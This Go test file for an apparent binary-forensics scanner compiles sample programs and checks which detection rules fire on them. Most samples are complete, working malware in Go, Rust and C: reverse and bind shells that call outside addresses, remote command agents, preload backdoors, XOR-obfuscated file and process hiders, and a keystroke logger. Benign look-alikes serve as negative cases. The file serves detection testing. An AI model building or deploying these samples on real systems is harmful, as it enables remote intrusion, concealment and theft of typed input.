package binary

import (
	"bytes"
	"fmt"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/strata-forensics/strata/audit"
	"github.com/strata-forensics/strata/forensics"
)

// Our own samples, compiled by the test: they are never run.
const (
	goReverseShell = `package main

import (
	"net"
	"os/exec"
	"time"
)

func main() {
	for {
		c, err := net.Dial("tcp", "203.0.113.45:4444")
		if err != nil {
			time.Sleep(time.Minute)
			continue
		}
		cmd := exec.Command("/bin/sh")
		cmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c
		cmd.Run()
		c.Close()
	}
}
`
	// Command loops that name no shell: an order read from the connection is run and its
	// output kept (to be sent back).
	goLineAgent = `package main

import (
	"bufio"
	"fmt"
	"net"
	"os/exec"
	"strings"
	"time"
)

func home(addr string) net.Conn {
	for {
		c, err := net.Dial("tcp", addr)
		if err == nil {
			return c
		}
		time.Sleep(20 * time.Second)
	}
}

func run(line string) string {
	f := strings.Fields(line)
	if len(f) == 0 {
		return ""
	}
	out, err := exec.Command(f[0], f[1:]...).Output()
	if err != nil {
		return err.Error()
	}
	return string(out)
}

func main() {
	c := home("198.51.100.23:7443")
	r := bufio.NewReader(c)
	for {
		line, err := r.ReadString('\n')
		if err != nil {
			c = home("198.51.100.23:7443")
			r = bufio.NewReader(c)
			continue
		}
		fmt.Fprintln(c, run(line))
	}
}
`
	// a listener handing each line a client sends to env sh -c through textproto, sending the
	// combined output back: names no shell by its path
	goTextprotoAgent = `package main

import (
	"bufio"
	"net"
	"net/textproto"
	"os/exec"
)

func serve(c net.Conn) {
	tp := textproto.NewReader(bufio.NewReader(c))
	for {
		line, err := tp.ReadLine()
		if err != nil {
			break
		}
		out, _ := exec.Command("env", "sh", "-c", line).CombinedOutput()
		c.Write(out)
	}
	c.Close()
}

func main() {
	ln, err := net.Listen("tcp", ":7070")
	if err != nil {
		return
	}
	for {
		c, err := ln.Accept()
		if err == nil {
			go serve(c)
		}
	}
}
`
	goTLSAgent = `package main

import (
	"bufio"
	"crypto/tls"
	"encoding/binary"
	"os/exec"
)

func main() {
	c, err := tls.Dial("tcp", "203.0.113.80:443", &tls.Config{InsecureSkipVerify: true})
	if err != nil {
		return
	}
	s := bufio.NewScanner(c)
	for s.Scan() {
		out, _ := exec.Command("s"+"h", "-c", s.Text()).CombinedOutput()
		binary.Write(c, binary.BigEndian, uint32(len(out)))
		c.Write(out)
	}
}
`
	goJSONAgent = `package main

import (
	"encoding/json"
	"net"
	"os/exec"
)

type order struct {
	Name string
	Args []string
}

func main() {
	ln, err := net.Listen("tcp", ":31337")
	if err != nil {
		return
	}
	for {
		c, err := ln.Accept()
		if err != nil {
			continue
		}
		go func(c net.Conn) {
			defer c.Close()
			d, e := json.NewDecoder(c), json.NewEncoder(c)
			for {
				var o order
				if d.Decode(&o) != nil {
					return
				}
				out, err := exec.Command(o.Name, o.Args...).CombinedOutput()
				e.Encode(map[string]any{"out": string(out), "err": err})
			}
		}(c)
	}
}
`
	// Tools that connect and start a process and are no shell: one waits for a port and then
	// becomes its arguments, one restarts a service when a banner says it is unwell.
	goWaitFor = `package main

import (
	"net"
	"os"
	"os/exec"
	"syscall"
	"time"
)

func main() {
	for {
		c, err := net.DialTimeout("tcp", os.Args[1], time.Second)
		if err == nil {
			c.Close()
			break
		}
		time.Sleep(time.Second)
	}
	p, err := exec.LookPath(os.Args[2])
	if err != nil {
		os.Exit(127)
	}
	syscall.Exec(p, os.Args[2:], os.Environ())
}
`
	goBannerWatch = `package main

import (
	"bufio"
	"log"
	"net"
	"os/exec"
	"strings"
	"time"
)

func main() {
	for range time.Tick(30 * time.Second) {
		c, err := net.DialTimeout("tcp", "127.0.0.1:25", 5*time.Second)
		ok := false
		if err == nil {
			line, _ := bufio.NewReader(c).ReadString('\n')
			ok = strings.HasPrefix(line, "220")
			c.Close()
		}
		if !ok {
			if err := exec.Command("systemctl", "restart", "postfix").Run(); err != nil {
				log.Print(err)
			}
		}
	}
}
`
	goClean = `package main

import (
	"fmt"
	"net/http"
)

func main() {
	resp, err := http.Get("http://127.0.0.1:8080/healthz")
	if err != nil {
		fmt.Println(err)
		return
	}
	fmt.Println(resp.Status)
}
`
	// Rust: a shell on the connection's descriptor, a loop running what the connection sends,
	// and two tools that are neither.
	rustFdShell = `use std::net::TcpStream;
use std::os::unix::io::{AsRawFd, FromRawFd};
use std::process::{Command, Stdio};

fn main() {
    let c = TcpStream::connect("198.51.100.7:8443").expect("connect");
    let fd = c.as_raw_fd();
    let mut child = Command::new("/bin/bash")
        .arg("-i")
        .stdin(unsafe { Stdio::from_raw_fd(fd) })
        .stdout(unsafe { Stdio::from_raw_fd(fd) })
        .stderr(unsafe { Stdio::from_raw_fd(fd) })
        .spawn()
        .expect("spawn");
    let _ = child.wait();
}
`
	rustCommandLoop = `use std::io::{BufRead, BufReader, Write};
use std::net::TcpStream;
use std::process::Command;

fn main() {
    loop {
        if let Ok(mut c) = TcpStream::connect("198.51.100.7:443") {
            let mut r = BufReader::new(c.try_clone().unwrap());
            let mut line = String::new();
            while r.read_line(&mut line).unwrap_or(0) > 0 {
                let out = Command::new("sh").arg("-c").arg(line.trim()).output();
                if let Ok(o) = out {
                    let _ = c.write_all(&o.stdout);
                }
                line.clear();
            }
        }
        std::thread::sleep(std::time::Duration::from_secs(30));
    }
}
`
	rustReporter = `use std::io::Write;
use std::net::TcpStream;
use std::process::Command;

fn main() {
    let o = Command::new("uname").arg("-a").output().expect("uname");
    let mut s = TcpStream::connect("127.0.0.1:9100").expect("connect");
    s.write_all(&o.stdout).expect("send");
}
`
	rustHookRunner = `use std::process::Command;

fn main() {
    for hook in std::env::args().skip(1) {
        let st = Command::new("/bin/sh").arg("-c").arg(&hook).status().expect("run");
        println!("{}: {}", hook, st);
    }
}
`
	cStaticShell = `#include <arpa/inet.h>
#include <sys/socket.h>
#include <unistd.h>
int main(void) {
	struct sockaddr_in sa = {0};
	sa.sin_family = AF_INET;
	sa.sin_port = htons(4444);
	inet_pton(AF_INET, "203.0.113.45", &sa.sin_addr);
	int s = socket(AF_INET, SOCK_STREAM, 0);
	if (connect(s, (struct sockaddr *)&sa, sizeof sa) != 0) return 1;
	for (int i = 0; i < 3; i++) dup2(s, i);
	char *argv[] = {"/bin/sh", 0};
	execve("/bin/sh", argv, 0);
	return 0;
}
`
	// A process and file hider: readdir that skips entries, strings XOR-encoded with 0x5a.
	cHider = `#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <string.h>
static const char hidden[] = {0x75,0x2a,0x28,0x35,0x39,0x75,0}; /* "/proc/" ^ 0x5a */
static struct dirent *(*real_readdir)(DIR *);
struct dirent *readdir(DIR *d) {
	if (!real_readdir) real_readdir = dlsym(RTLD_NEXT, "readdir");
	struct dirent *e;
	char name[8];
	for (int i = 0; hidden[i]; i++) name[i] = hidden[i] ^ 0x5a;
	while ((e = real_readdir(d)) && strstr(e->d_name, "kworker") && name[0]) {}
	return e;
}
`
	// A bind shell: accept, then the connection as the shell's streams.
	cStaticBind = `#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>
static void serve(int c) { dup2(c, 0); dup2(c, 1); dup2(c, 2); execl("/bin/bash", "bash", "-i", (char *)0); }
int main(void) {
	struct sockaddr_in sa = {0};
	sa.sin_family = AF_INET; sa.sin_port = htons(31337);
	int s = socket(AF_INET, SOCK_STREAM, 0);
	bind(s, (struct sockaddr *)&sa, sizeof sa); listen(s, 1);
	for (;;) { int c = accept(s, 0, 0); if (fork() == 0) serve(c); close(c); }
}
`
	// A client that connects and runs a program, without putting the socket on its streams.
	cStaticClient = `#include <arpa/inet.h>
#include <sys/socket.h>
#include <unistd.h>
int main(void) {
	struct sockaddr_in sa = {0};
	sa.sin_family = AF_INET; sa.sin_port = htons(80);
	inet_pton(AF_INET, "127.0.0.1", &sa.sin_addr);
	int s = socket(AF_INET, SOCK_STREAM, 0);
	if (connect(s, (struct sockaddr *)&sa, sizeof sa) == 0) write(s, "ping\n", 5);
	char *argv[] = {"/bin/sh", "-c", "logger done", 0};
	return execve("/bin/sh", argv, 0);
}
`
	// A preload backdoor: a hooked accept relays a shell through a pseudo-terminal, and the
	// shell's path is kept XOR-encoded (0x3c).
	cPtyBackdoor = `#define _GNU_SOURCE
#include <dlfcn.h>
#include <pty.h>
#include <sys/select.h>
#include <sys/socket.h>
#include <unistd.h>
static char sh[] = {0x13,0x5e,0x55,0x52,0x13,0x4f,0x54,0};
static int (*real_accept)(int, struct sockaddr *, socklen_t *);
int accept(int fd, struct sockaddr *a, socklen_t *l) {
	if (!real_accept) real_accept = dlsym(RTLD_NEXT, "accept");
	int c = real_accept(fd, a, l), pty;
	char b[512];
	if (c >= 0 && fork() == 0) {
		if (forkpty(&pty, 0, 0, 0) == 0) { for (int i = 0; sh[i]; i++) sh[i] ^= 0x3c; execl(sh, sh, (char *)0); }
		for (;;) { fd_set s; FD_ZERO(&s); FD_SET(c, &s); FD_SET(pty, &s); select(64, &s, 0, 0, 0);
			int n; if (FD_ISSET(c, &s) && (n = read(c, b, sizeof b)) > 0) write(pty, b, n);
			if (FD_ISSET(pty, &s) && (n = read(pty, b, sizeof b)) > 0) write(c, b, n); }
	}
	return c;
}
`
	// A hider whose looked-up names are kept with a rolling three-byte key: no name in clear,
	// none under a one-byte key.
	cRollingHider = `#define _GNU_SOURCE
#include <dlfcn.h>
#include <dirent.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
/* names kept with a rolling three-byte key */
static unsigned char names[][16] = {
  {'r'^0x11,'e'^0x22,'a'^0x33,'d'^0x11,'d'^0x22,'i'^0x33,'r'^0x11,0},
  {'f'^0x11,'o'^0x22,'p'^0x33,'e'^0x11,'n'^0x22,0},
  {'a'^0x11,'c'^0x22,'c'^0x33,'e'^0x11,'s'^0x22,'s'^0x33,0},
};
static void *real(int i) { char b[16]; unsigned char k[3] = {0x11,0x22,0x33}; int j; for (j = 0; names[i][j]; j++) b[j] = names[i][j] ^ k[j%3]; b[j] = 0; return dlsym(RTLD_NEXT, b); }
struct dirent *readdir(DIR *d) { struct dirent *(*f)(DIR *) = real(0); struct dirent *e; do { e = f(d); } while (e && strstr(e->d_name, "kthr")); return e; }
FILE *fopen(const char *p, const char *m) { FILE *(*f)(const char *, const char *) = real(1); return f(p, m); }
int access(const char *p, int m) { int (*f)(const char *, int) = real(2); return f(p, m); }
`
	// An interposer of one file function, as a profiler or sandbox would be.
	cInterposer = `#define _GNU_SOURCE
#include <dlfcn.h>
#include <stdio.h>
static FILE *(*real_fopen)(const char *, const char *);
FILE *fopen(const char *p, const char *m) {
	if (!real_fopen) real_fopen = dlsym(RTLD_NEXT, "fopen");
	return real_fopen(p, m);
}
`
)

// Input loggers: a hook on read or write that keeps what passes through in a file of its
// own, kept hidden or in a temporary place; and an interposer logging to /var/log as a
// tracing tool does.
const (
	cKeyLogger = `#define _GNU_SOURCE
#include <dlfcn.h>
#include <stdio.h>
#include <unistd.h>
static ssize_t (*real_read)(int, void *, size_t);
ssize_t read(int fd, void *buf, size_t n) {
	if (!real_read) real_read = dlsym(RTLD_NEXT, "read");
	ssize_t r = real_read(fd, buf, n);
	if (fd == 0 && r > 0) {
		FILE *f = fopen("/usr/share/.cache/.k", "a");
		if (f) { fwrite(buf, 1, r, f); fclose(f); }
	}
	return r;
}
`
	cWriteLogger = `#define _GNU_SOURCE
#include <dlfcn.h>
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
static ssize_t (*real_write)(int, const void *, size_t);
ssize_t write(int fd, const void *buf, size_t n) {
	if (!real_write) real_write = dlsym(RTLD_NEXT, "write");
	int o = open("/tmp/sess.log", O_WRONLY | O_APPEND | O_CREAT, 0600);
	if (o >= 0) { dprintf(o, "%d:%.*s\n", fd, (int)n, (const char *)buf); close(o); }
	return real_write(fd, buf, n);
}
`
	cTraceLogger = `#define _GNU_SOURCE
#include <dlfcn.h>
#include <stdio.h>
#include <unistd.h>
static ssize_t (*real_write)(int, const void *, size_t);
ssize_t write(int fd, const void *buf, size_t n) {
	if (!real_write) real_write = dlsym(RTLD_NEXT, "write");
	FILE *f = fopen("/var/log/iotrace.log", "a");
	if (f) { fprintf(f, "write %d %zu\n", fd, n); fclose(f); }
	return real_write(fd, buf, n);
}
`
)

func build(t *testing.T, lang, src string, args ...string) []byte {
	t.Helper()
	dir := t.TempDir()
	out := filepath.Join(dir, "out")
	var cmd *exec.Cmd
	switch lang {
	case "go":
		if err := os.WriteFile(filepath.Join(dir, "main.go"), []byte(src), 0o644); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, "go.mod"), []byte("module example.org/tool\n\ngo 1.21\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		cmd = exec.Command(goTool(t), append([]string{"build", "-o", out}, args...)...)
		cmd.Env = append(os.Environ(), "CGO_ENABLED=0", "GOFLAGS=-mod=mod")
	case "rust":
		if _, err := exec.LookPath("rustc"); err != nil {
			t.Skip("rustc is not installed")
		}
		if err := os.WriteFile(filepath.Join(dir, "main.rs"), []byte(src), 0o644); err != nil {
			t.Fatal(err)
		}
		cmd = exec.Command("rustc", append(args, "-o", out, filepath.Join(dir, "main.rs"))...)
	case "c":
		if _, err := exec.LookPath("gcc"); err != nil {
			t.Skip("gcc is not installed")
		}
		if err := os.WriteFile(filepath.Join(dir, "x.c"), []byte(src), 0o644); err != nil {
			t.Fatal(err)
		}
		cmd = exec.Command("gcc", append(args, "-o", out, filepath.Join(dir, "x.c"))...)
	}
	cmd.Dir = dir
	if b, err := cmd.CombinedOutput(); err != nil {
		t.Skipf("cannot build the %s sample here: %v\n%s", lang, err, b)
	}
	data, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	return data
}

func content(p string, data []byte) []audit.Finding {
	return New().Content(audit.File{Layer: 1, Entry: &forensics.Entry{Path: p, Size: int64(len(data)), Mode: 0o755}}, data)
}

func rulesOf(fs []audit.Finding) string {
	var out []string
	for _, f := range fs {
		out = append(out, f.Rule+"/"+f.Severity.String())
	}
	return strings.Join(out, " ")
}

func TestCompiledBehaviour(t *testing.T) {
	if testing.Short() {
		t.Skip("compiles samples")
	}
	tests := []struct {
		name, lang, src string
		args            []string
		path            string
		want            string // rule/severity list
	}{
		{"go reverse shell", "go", goReverseShell, []string{"-trimpath", "-ldflags=-s -w"}, "/usr/local/bin/kupdate", "STRATA-RS-021/high"},
		{"go reverse shell with symbols", "go", goReverseShell, nil, "/usr/local/bin/kupdate", "STRATA-RS-021/high"},
		{"go client", "go", goClean, nil, "/usr/local/bin/probe", ""},
		{"go line agent", "go", goLineAgent, nil, "/usr/bin/dbus-helper", "STRATA-RS-021/high"},
		{"stripped go line agent", "go", goLineAgent, []string{"-trimpath", "-ldflags=-s -w"}, "/usr/bin/dbus-helper", "STRATA-RS-021/high"},
		{"go tls agent running sh -c", "go", goTLSAgent, []string{"-trimpath", "-ldflags=-s -w"}, "/usr/local/bin/tls-agent", "STRATA-RS-021/high"},
		{"go json orders on a listener", "go", goJSONAgent, nil, "/opt/svc/svc", "STRATA-RS-021/high"},
		{"go textproto line agent", "go", goTextprotoAgent, []string{"-trimpath", "-ldflags=-s -w"}, "/usr/local/sbin/netd", "STRATA-RS-021/high"},
		{"go line agent among many functions", "go", goLineAgent + manyFuncs(120), []string{"-ldflags=-s -w"}, "/usr/bin/dbus-helper", "STRATA-RS-021/high"},
		{"go wait-for-port exec", "go", goWaitFor, nil, "/usr/local/bin/wait-for", ""},
		{"go banner watch restarting a service", "go", goBannerWatch, []string{"-ldflags=-s -w"}, "/usr/local/bin/smtp-watch", ""},

		{"static C reverse shell", "c", cStaticShell, []string{"-static", "-O2"}, "/usr/bin/netd", "STRATA-RS-021/high"},
		{"stripped static C reverse shell", "c", cStaticShell, []string{"-static", "-O2", "-s"}, "/usr/bin/netd", "STRATA-RS-021/high"},
		{"stripped static C bind shell", "c", cStaticBind, []string{"-static", "-O0", "-s"}, "/usr/sbin/.sshd", "STRATA-RS-021/high"},
		{"stripped static C client", "c", cStaticClient, []string{"-static", "-O2", "-s"}, "/usr/bin/pinger", ""},
		{"go reverse shell among many functions", "go", goReverseShell + manyFuncs(120), []string{"-trimpath", "-ldflags=-s -w"}, "/usr/local/bin/agent", "STRATA-RS-021/high"},
		{"go client among many functions", "go", goClean + manyFuncs(120), nil, "/usr/local/bin/probe", ""},
		{"rolling-key hider", "c", cRollingHider, []string{"-shared", "-fPIC", "-O2"}, "/usr/lib/libkcache.so", "STRATA-LP-005/high"},
		{"pty preload backdoor", "c", cPtyBackdoor, []string{"-shared", "-fPIC", "-O0"}, "/usr/lib/libcache.so", "STRATA-LP-005/critical STRATA-LP-006/high"},
		{"readdir hider", "c", cHider, []string{"-shared", "-fPIC", "-O0"}, "/usr/lib/libhide.so", "STRATA-LP-005/high STRATA-LP-006/high"},
		{"fopen interposer", "c", cInterposer, []string{"-shared", "-fPIC"}, "/usr/lib/libtrace.so", "STRATA-LP-005/low"},
		{"read logger to a hidden file", "c", cKeyLogger, []string{"-shared", "-fPIC", "-O2"}, "/usr/lib/x86_64-linux-gnu/libkbd.so", "STRATA-LP-005/high"},
		{"write logger to /tmp", "c", cWriteLogger, []string{"-shared", "-fPIC", "-O0"}, "/usr/local/lib/libsess.so", "STRATA-LP-005/high"},
		{"write tracer logging to /var/log", "c", cTraceLogger, []string{"-shared", "-fPIC"}, "/usr/lib/libiotrace.so", "STRATA-LP-005/low"},
		{"rust shell on the connection", "rust", rustFdShell, []string{"-O"}, "/usr/local/bin/kthreadd", "STRATA-RS-021/high"},
		{"stripped rust shell on the connection", "rust", rustFdShell, []string{"-O", "-C", "strip=symbols"}, "/usr/local/bin/kthreadd", "STRATA-RS-021/high"},
		{"rust command loop", "rust", rustCommandLoop, []string{"-O", "-C", "strip=symbols"}, "/opt/agent/agent", "STRATA-RS-021/high"},
		{"rust client running a program", "rust", rustReporter, []string{"-O"}, "/usr/local/bin/report", ""},
		{"rust hook runner", "rust", rustHookRunner, []string{"-O"}, "/usr/local/bin/hooks", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			data := build(t, tt.lang, tt.src, tt.args...)
			fs := content(tt.path, data)
			if got := rulesOf(fs); got != tt.want {
				for _, f := range fs {
					t.Logf("%s %s: %s [%s]", f.Rule, f.Severity, f.Title, f.Evidence)
				}
				t.Fatalf("got %q, want %q", got, tt.want)
			}
		})
	}
}

// The Go toolchain's own programs (net, os/exec, big and with modules) are not shells.
func TestGoToolchainSilent(t *testing.T) {
	out, err := exec.Command(goTool(t), "env", "GOROOT").Output()
	if err != nil {
		t.Skipf("go env GOROOT: %v", err)
	}
	root := strings.TrimSpace(string(out))
	files, _ := filepath.Glob(filepath.Join(root, "bin", "*"))
	tools, _ := filepath.Glob(filepath.Join(root, "pkg", "tool", "*", "*"))
	n := 0
	for _, f := range append(files, tools...) {
		data, err := os.ReadFile(f)
		if err != nil || len(data) < 64 {
			continue
		}
		n++
		if fs := content("/usr/local/go/bin/"+filepath.Base(f), data); len(fs) > 0 {
			t.Errorf("%s: %s", f, rulesOf(fs))
		}
	}
	if n == 0 {
		t.Skip("no Go toolchain binaries found")
	}
}

// manyFuncs is Go source for n functions of package main that the program calls, so that it
// is no longer a small program: found by what its main package calls, not by its size.
func manyFuncs(n int) string {
	var b strings.Builder
	b.WriteString("\nvar sink int\n\nfunc init() {\n")
	for i := 0; i < n; i++ {
		fmt.Fprintf(&b, "\tsink += helper%d(%d)\n", i, i)
	}
	b.WriteString("}\n")
	for i := 0; i < n; i++ {
		fmt.Fprintf(&b, "\n//go:noinline\nfunc helper%d(x int) int { return x*%d + x/7 }\n", i, i+3)
	}
	return b.String()
}

func TestExpandLoaderTokens(t *testing.T) {
	got := expandLoaderTokens("/lib/libc.so.u.42/k.so.$PLATFORM")
	if !slices.Contains(got, "/lib/libc.so.u.42/k.so.x86_64") || !slices.Contains(got, "/lib/libc.so.u.42/k.so.aarch64") {
		t.Errorf("$PLATFORM: %v", got)
	}
	got = expandLoaderTokens("/usr/${LIB}/libx.so")
	if !slices.Contains(got, "/usr/lib/x86_64-linux-gnu/libx.so") || !slices.Contains(got, "/usr/lib64/libx.so") {
		t.Errorf("${LIB}: %v", got)
	}
	if got := expandLoaderTokens("/usr/lib/libm.so"); len(got) != 1 || got[0] != "/usr/lib/libm.so" {
		t.Errorf("plain path: %v", got)
	}
}

// goTool is the go command the tests build with, or a skip.
func goTool(t *testing.T) string {
	t.Helper()
	p, err := exec.LookPath("go")
	if err != nil {
		t.Skip("no go command")
	}
	return p
}

// TestXorKey holds xorKey to a search for each key's encoding, smallest key first, on
// sections holding needles encoded with one key or several, cut, one byte off, and random
// bytes.
func TestXorKey(t *testing.T) {
	search := func(secs [][]byte, n string) int {
		for key := 1; key < 256; key++ {
			e := make([]byte, len(n))
			for i := range e {
				e[i] = n[i] ^ byte(key)
			}
			for _, b := range secs {
				if bytes.Contains(b, e) {
					return key
				}
			}
		}
		return 0
	}
	r := rand.New(rand.NewPCG(3, 4))
	hits := 0
	for range 3000 {
		var secs [][]byte
		for range 1 + r.IntN(3) {
			b := make([]byte, r.IntN(200))
			for i := range b {
				b[i] = byte(r.IntN(4)) ^ "ab/\x00"[r.IntN(4)]
			}
			for range r.IntN(3) {
				n := xorNeedles[r.IntN(len(xorNeedles))]
				key := byte(r.IntN(256))
				e := make([]byte, len(n))
				for i := range e {
					e[i] = n[i] ^ key
				}
				e = e[:len(e)-r.IntN(2)]
				if r.IntN(2) == 0 {
					e[r.IntN(len(e))] ^= 1 << r.IntN(8) // one byte off: a near miss
				}
				at := r.IntN(len(b) + 1)
				b = append(b[:at:at], append(e, b[at:]...)...)
			}
			secs = append(secs, b)
		}
		for _, n := range xorNeedles {
			want := search(secs, n)
			if got := xorKey(secs, n); got != want {
				t.Fatalf("xorKey(%q) = %d, the search finds key %d in %q", n, got, want, secs)
			}
			if want != 0 {
				hits++
			}
		}
	}
	if hits < 1000 {
		t.Fatalf("only %d needles found encoded: the sections do not hold enough", hits)
	}
}
